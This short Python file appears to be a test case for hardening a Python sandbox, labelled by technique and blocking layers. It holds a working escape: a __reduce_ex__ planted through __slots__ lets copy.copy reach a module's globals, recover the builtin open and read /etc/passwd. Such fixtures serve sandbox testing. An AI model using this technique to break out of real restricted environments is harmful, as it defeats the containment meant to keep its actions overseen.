# tries: a slot called like the hook that copy asks for
# class: reduce
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(space):
    print("REACHED")
    builtins = space["__builtins__"]
    return builtins["open"] if type(builtins) is dict else getattr(builtins, "open")


import copy
import json


class C:
    __slots__ = ("__reduce_ex__", "x")


c = C()
C.__dict__["__reduce_ex__"].__set__(
    c, lambda protocol: (getattr, (json.JSONEncoder.default, "__globals__")))
use(dig(copy.copy(c)))
